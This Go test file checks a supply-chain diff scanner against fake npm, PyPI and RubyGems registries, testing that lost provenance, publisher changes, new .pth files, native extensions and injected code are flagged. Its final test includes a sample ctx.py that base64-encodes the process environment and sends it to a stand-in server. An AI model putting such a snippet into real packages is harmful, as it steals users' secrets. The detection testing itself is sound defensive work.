package diff

import (
	"context"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"

	"customs/internal/archivetest"
	"customs/internal/finding"
	"customs/internal/lockfile"
	"customs/internal/registry"
	"customs/internal/registry/registrytest"
)

// fakeNPM serves a packument and tarballs for debug-like: 4.4.1 published
// with provenance by its maintainer, 4.4.2 (the trojanised one) without,
// by an account added as maintainer with it.
func fakeNPM(t *testing.T, tarballs map[string][]byte, tamper string) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	var srv *httptest.Server
	mux.HandleFunc("/debug-like", func(w http.ResponseWriter, r *http.Request) {
		versions := map[string]any{}
		for v, data := range tarballs {
			sum := sha512.Sum512(data)
			dist := map[string]any{
				"tarball":   srv.URL + "/debug-like/-/debug-like-" + v + ".tgz",
				"integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:]),
			}
			if v != "4.4.2" {
				dist["attestations"] = map[string]any{"url": srv.URL + "/attestations", "provenance": map[string]any{"predicateType": "https://slsa.dev/provenance/v1"}}
			}
			publisher, maintainers := "qix", []map[string]string{{"name": "qix"}}
			if v == "4.4.2" {
				publisher, maintainers = "npm-support-desk", append(maintainers, map[string]string{"name": "npm-support-desk"})
			}
			versions[v] = map[string]any{
				"dist": dist, "_npmUser": map[string]string{"name": publisher},
				"maintainers": maintainers,
				"repository":  map[string]string{"type": "git", "url": "git+https://example.com/debug-like.git"},
			}
		}
		versions["5.0.0-beta.1"] = versions["4.4.1"]
		_ = json.NewEncoder(w).Encode(map[string]any{"name": "debug-like", "versions": versions})
	})
	mux.HandleFunc("/debug-like/-/", func(w http.ResponseWriter, r *http.Request) {
		v := strings.TrimSuffix(strings.TrimPrefix(r.URL.Path, "/debug-like/-/debug-like-"), ".tgz")
		data, ok := tarballs[v]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if v == tamper {
			data = append([]byte{}, data...)
			data[len(data)-1] ^= 1
		}
		_, _ = w.Write(data)
	})
	srv = httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

func readFile(t testing.TB, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestRegistryReferenceAgainstPreviousVersion(t *testing.T) {
	dir := t.TempDir()
	v440 := debugLike("4.4.0")
	v441 := debugLike("4.4.1")
	v442 := with(v441, "package.json", packageJSON("debug-like", "4.4.2", `,
  "dependencies": {"ms-like": "^2.1.3"}`), "src/index.js", walletHijacker()+"\n"+v441["src/index.js"])
	tarballs := map[string][]byte{
		"4.4.0": readFile(t, npmTarball(t, dir, "a.tgz", v440)),
		"4.4.1": readFile(t, npmTarball(t, dir, "b.tgz", v441)),
		"4.4.2": readFile(t, npmTarball(t, dir, "c.tgz", v442)),
	}
	srv := fakeNPM(t, tarballs, "")
	r, err := Targets(context.Background(), fetcher(srv.URL), "npm:debug-like@4.4.2", "", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if r.Old.Version != "4.4.1" || r.New.Version != "4.4.2" {
		t.Fatalf("compared %s with %s, want 4.4.1 → 4.4.2", r.Old.Version, r.New.Version)
	}
	if r.Verdict != finding.Malicious {
		t.Errorf("verdict %s, want malicious", r.Verdict)
	}
	var lost bool
	for _, m := range r.Metadata {
		lost = lost || m.Field == "provenance" && m.New == "missing"
	}
	if !lost || !strings.Contains(strings.Join(r.Reasons, "\n"), "provenance") {
		t.Errorf("lost provenance not reported: metadata %+v reasons %q", r.Metadata, r.Reasons)
	}
	fields := map[string]MetadataChange{}
	for _, m := range r.Metadata {
		fields[m.Field] = m
	}
	if m := fields["publisher"]; m.Old != "qix" || m.New != "npm-support-desk" {
		t.Errorf("publisher change = %+v", m)
	}
	if m := fields["maintainers"]; m.New != "npm-support-desk, qix" {
		t.Errorf("maintainers change = %+v", m)
	}
	var notMaintainer bool
	for _, s := range r.Signals {
		notMaintainer = notMaintainer || s.Rule == "diff-publisher-changed" && strings.Contains(s.Message, "not a maintainer before")
	}
	if !notMaintainer {
		t.Errorf("the new publisher is not said to be new: %+v", r.Signals)
	}

	// Two explicit references; the clean update stays clean.
	r, err = Targets(context.Background(), fetcher(srv.URL), "npm:debug-like@4.4.0", "npm:debug-like@4.4.1", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if r.Verdict != finding.Clean || len(r.Metadata) != 0 {
		t.Errorf("4.4.0 → 4.4.1: verdict %s metadata %+v reasons %q, want clean and no metadata change", r.Verdict, r.Metadata, r.Reasons)
	}
}

func TestRegistryErrors(t *testing.T) {
	dir := t.TempDir()
	v1 := debugLike("4.4.1")
	tarballs := map[string][]byte{
		"4.4.1": readFile(t, npmTarball(t, dir, "b.tgz", v1)),
		"4.4.2": readFile(t, npmTarball(t, dir, "c.tgz", with(v1, "README.md", "changed\n"))),
	}
	srv := fakeNPM(t, tarballs, "4.4.2")
	ctx := context.Background()
	for _, tc := range []struct{ old, new, want string }{
		{"npm:debug-like@4.4.1", "npm:debug-like@4.4.2", "integrity"},
		{"npm:debug-like@4.4.1", "", "nothing to compare"},
		{"npm:debug-like@9.9.9", "", "no such version"},
		{"npm:no-such-package@1.0.0", "", "not found"},
		{"old.tgz", "", "registry reference"},
		{"npm:bad name@1", "", "want npm:NAME@VERSION"},
	} {
		_, err := Targets(ctx, fetcher(srv.URL), tc.old, tc.new, Options{})
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("Targets(%q, %q) error = %v, want one mentioning %q", tc.old, tc.new, err, tc.want)
		}
	}
}

func TestParseRef(t *testing.T) {
	for in, want := range map[string]Ref{
		"npm:debug@4.4.2":        {"npm", "debug", "4.4.2"},
		"npm:@babel/core@7.26.0": {"npm", "@babel/core", "7.26.0"},
		"npm:@babel/core":        {"npm", "@babel/core", ""},
		"pypi:requests@2.32.3":   {"pypi", "requests", "2.32.3"},
		"gem:rails@7.1.0":        {"rubygems", "rails", "7.1.0"},
	} {
		got, ok, err := ParseRef(in)
		if !ok || err != nil || got != want {
			t.Errorf("ParseRef(%q) = %+v, %v, %v; want %+v", in, got, ok, err, want)
		}
	}
	for _, path := range []string{"old.tgz", "./npm:x", "C:/pkgs/a.tgz", "dir/npm-1.0.tgz"} {
		if _, ok, _ := ParseRef(path); ok {
			t.Errorf("ParseRef(%q) took a path for a reference", path)
		}
	}
}

func FuzzParseRef(f *testing.F) {
	for _, s := range []string{"npm:debug@4.4.2", "npm:@s/n@1", "gem:x", "pypi:", "npm:@", "npm:a@b@c"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		ref, ok, err := ParseRef(s)
		if !ok || err != nil {
			return
		}
		if ref.Name == "" || strings.ContainsAny(ref.Name, " \t\n") {
			t.Fatalf("ParseRef(%q) accepted name %q", s, ref.Name)
		}
		if again, _, _ := ParseRef(ref.String()); again != ref {
			t.Fatalf("round trip %q → %+v → %q → %+v", s, ref, ref.String(), again)
		}
	})
}

func fetcher(npmURL string) Registry {
	return Registry{Client: registry.New(registry.Options{Endpoints: registry.Endpoints{NPM: npmURL}, Retries: -1})}
}

// TestPyPIReferencesThroughRecordedResponses resolves pypi: references
// through the registry client against recorded PEP 691 responses: the
// sdists' roots differ (tiny_lib-1.0/ vs tiny_lib-1.1/) and 1.1 adds a
// .pth file, which runs at every interpreter start.
func TestPyPIReferencesThroughRecordedResponses(t *testing.T) {
	srv := registrytest.New(t)
	dir := t.TempDir()
	pkgInfo := func(v string) string {
		return "Metadata-Version: 2.1\nName: tiny-lib\nVersion: " + v + "\nSummary: tiny\n"
	}
	base := map[string]string{
		"setup.py":             "from setuptools import setup\nsetup()\n",
		"tiny_lib/__init__.py": "def add(a, b):\n    return a + b\n",
	}
	sdists := map[string][]byte{
		"1.0": readFile(t, tarball(t, dir, "a.tar.gz", "tiny_lib-1.0/", with(base, "PKG-INFO", pkgInfo("1.0")))),
		"1.1": readFile(t, tarball(t, dir, "b.tar.gz", "tiny_lib-1.1/", with(base, "PKG-INFO", pkgInfo("1.1"),
			"tiny_lib_init.pth", "import tiny_lib\n"))),
	}
	var files []map[string]any
	for _, v := range []string{"1.0", "1.1"} {
		sum := sha256.Sum256(sdists[v])
		name := "tiny_lib-" + v + ".tar.gz"
		srv.Set("/files/"+name, sdists[v])
		files = append(files, map[string]any{
			"filename": name, "url": srv.URL + "/files/" + name,
			"hashes":      map[string]string{"sha256": hex.EncodeToString(sum[:])},
			"upload-time": "2025-0" + v[2:] + "-01T00:00:00.000000Z", "yanked": false,
		})
	}
	doc, _ := json.Marshal(map[string]any{"meta": map[string]string{"api-version": "1.1"}, "name": "tiny-lib", "versions": []string{"1.0", "1.1"}, "files": files})
	srv.Set("/simple/tiny-lib/", doc)

	f := Registry{Client: registry.New(registry.Options{Endpoints: srv.Endpoints(), Retries: -1})}
	r, err := Targets(context.Background(), f, "pypi:tiny-lib@1.1", "", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if r.Old.Version != "1.0" || r.New.Version != "1.1" || r.New.Ecosystem != "pypi" {
		t.Fatalf("compared %+v with %+v", r.Old, r.New)
	}
	if r.Unchanged != 2 {
		t.Errorf("unchanged = %d, want 2 (setup.py and __init__.py match across the roots); files %+v", r.Unchanged, r.Files)
	}
	if r.Verdict != finding.Suspicious || !strings.Contains(strings.Join(r.Reasons, "\n"), ".pth") {
		t.Errorf("verdict %s reasons %q, want suspicious for the new .pth file", r.Verdict, r.Reasons)
	}
}

func TestReviewChangeLocatesTheUpdateAtTheLockfileLine(t *testing.T) {
	dir := t.TempDir()
	v441 := debugLike("4.4.1")
	v442 := with(v441, "src/index.js", walletHijacker()+"\n"+v441["src/index.js"])
	srv := fakeNPM(t, map[string][]byte{
		"4.4.1": readFile(t, npmTarball(t, dir, "b.tgz", v441)),
		"4.4.2": readFile(t, npmTarball(t, dir, "c.tgz", v442)),
	}, "")
	bump := BaseChange{OldVersion: "4.4.1", Dependency: lockfile.Dependency{
		Ecosystem: "npm", Name: "debug-like", Version: "4.4.2", File: "package-lock.json", Line: 12, Source: lockfile.SourceRegistry,
	}}
	sigs, err := ReviewChange(context.Background(), fetcher(srv.URL), bump, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(sigs) == 0 || sigs[0].Verdict != finding.Malicious {
		t.Fatalf("signals %+v, want a malicious one first", sigs)
	}
	f := sigs[0]
	if f.File != "package-lock.json" || f.Line != 12 || !strings.HasPrefix(f.Message, "update 4.4.1 → 4.4.2 is malicious: ") || !strings.Contains(f.Message, "src/index.js") {
		t.Errorf("signal %+v: want it at package-lock.json:12 naming the update and the injected file", f)
	}

	added := bump
	added.OldVersion = ""
	if sigs, err := ReviewChange(context.Background(), fetcher(srv.URL), added, Options{}); err != nil || len(sigs) != 0 {
		t.Errorf("a new dependency has nothing to diff: got %+v %v", sigs, err)
	}
}

func gemspec(version, extensions string) string {
	return `--- !ruby/object:Gem::Specification
name: tiny-gem
version: !ruby/object:Gem::Version
  version: ` + version + `
platform: ruby
authors:
- Alice
files:
- lib/tiny-gem.rb
extensions: ` + extensions + `
dependencies: []
summary: tiny
`
}

// TestGemReferencesThroughRecordedResponses resolves gem: references
// through the registry client against a recorded RubyGems versions
// document: 1.0.1 adds a native extension, built (run) at install.
func TestGemReferencesThroughRecordedResponses(t *testing.T) {
	srv := registrytest.New(t)
	lib := map[string]string{"lib/tiny-gem.rb": "module TinyGem\n  def self.add(a, b) = a + b\nend\n"}
	gems := map[string][]byte{
		"1.0.0": archivetest.Gem(gemspec("1.0.0", "[]"), archivetest.Files("", lib)...),
		"1.0.1": archivetest.Gem(gemspec("1.0.1", "\n- ext/tiny/extconf.rb"), archivetest.Files("", with(lib, "ext/tiny/extconf.rb", "require 'mkmf'\ncreate_makefile('tiny')\n"))...),
	}
	var doc []map[string]string
	for _, v := range []string{"1.0.1", "1.0.0"} {
		sum := sha256.Sum256(gems[v])
		doc = append(doc, map[string]string{"number": v, "platform": "ruby", "created_at": "2025-0" + v[4:] + "-02T00:00:00.000Z", "sha": hex.EncodeToString(sum[:])})
		srv.Set("/gems/gems/tiny-gem-"+v+".gem", gems[v])
	}
	body, _ := json.Marshal(doc)
	srv.Set("/gems/api/v1/versions/tiny-gem.json", body)

	f := Registry{Client: registry.New(registry.Options{Endpoints: srv.Endpoints(), Retries: -1})}
	r, err := Targets(context.Background(), f, "gem:tiny-gem@1.0.1", "", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if r.Old.Version != "1.0.0" || r.New.Version != "1.0.1" || r.New.Ecosystem != "rubygems" {
		t.Fatalf("compared %+v with %+v", r.Old, r.New)
	}
	if fc := fileChange(r, "ext/tiny/extconf.rb"); fc == nil || fc.Status != Added || fc.Role != "install-time" {
		t.Errorf("extconf.rb = %+v, want added, install-time", fc)
	}
	if r.Verdict != finding.Suspicious || !strings.Contains(strings.Join(r.Reasons, "\n"), "native extension") {
		t.Errorf("verdict %s reasons %q, want suspicious for the new extension", r.Verdict, r.Reasons)
	}
}

func TestRepositoryKey(t *testing.T) {
	same := []string{
		"git+https://github.com/colorjs/color-name.git", "http://github.com/colorjs/color-name.git",
		"git://github.com/colorjs/color-name", "git+ssh://git@github.com/colorjs/color-name.git",
		"git@github.com:colorjs/color-name.git", "github:colorjs/color-name", "colorjs/color-name",
		"https://GitHub.com/colorjs/color-name/",
	}
	for _, u := range same {
		if repositoryKey(u) != repositoryKey(same[0]) {
			t.Errorf("repositoryKey(%q) = %q, want %q", u, repositoryKey(u), repositoryKey(same[0]))
		}
	}
	if repositoryKey("zeit/ms") == repositoryKey("vercel/ms") {
		t.Errorf("a move to another owner must count as a change")
	}
}

// TestPyPIModuleStealingTheEnvironmentIsMalicious: the shape of ctx 0.2.6
// (May 2022): the package's only module, imported by its name, starts
// sending the whole environment to a web server.
func TestPyPIModuleStealingTheEnvironmentIsMalicious(t *testing.T) {
	dir := t.TempDir()
	base := map[string]string{
		"PKG-INFO": "Metadata-Version: 2.1\nName: ctx\nVersion: 0.1.2\n",
		"setup.py": "from setuptools import setup\nsetup(name='ctx', py_modules=['ctx'])\n",
		"ctx.py":   "class Ctx(dict):\n    def __init__(self, *a, **kw):\n        super().__init__(*a, **kw)\n        self.__dict__ = self\n",
	}
	newer := with(base, "PKG-INFO", "Metadata-Version: 2.1\nName: ctx\nVersion: 0.2.6\n",
		"ctx.py", "import os\nimport base64\nimport requests\n\nclass Ctx(dict):\n    def __init__(self, *a, **kw):\n        super().__init__(*a, **kw)\n        self.__dict__ = self\n        env = base64.b64encode(str(os.environ).encode()).decode()\n        requests.get('https://anti-theft.example/hacked/' + env)\n")
	r, err := Paths(context.Background(), tarball(t, dir, "a.tar.gz", "ctx-0.1.2/", base), tarball(t, dir, "b.tar.gz", "ctx-0.2.6/", newer), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if r.Verdict != finding.Malicious || !strings.Contains(strings.Join(r.Reasons, "\n"), "ctx.py") {
		t.Errorf("verdict %s reasons %q, want malicious naming ctx.py", r.Verdict, r.Reasons)
	}
	if fc := fileChange(r, "ctx.py"); fc == nil || fc.Role != "import-time" {
		t.Errorf("ctx.py = %+v, want import-time", fc)
	}
}
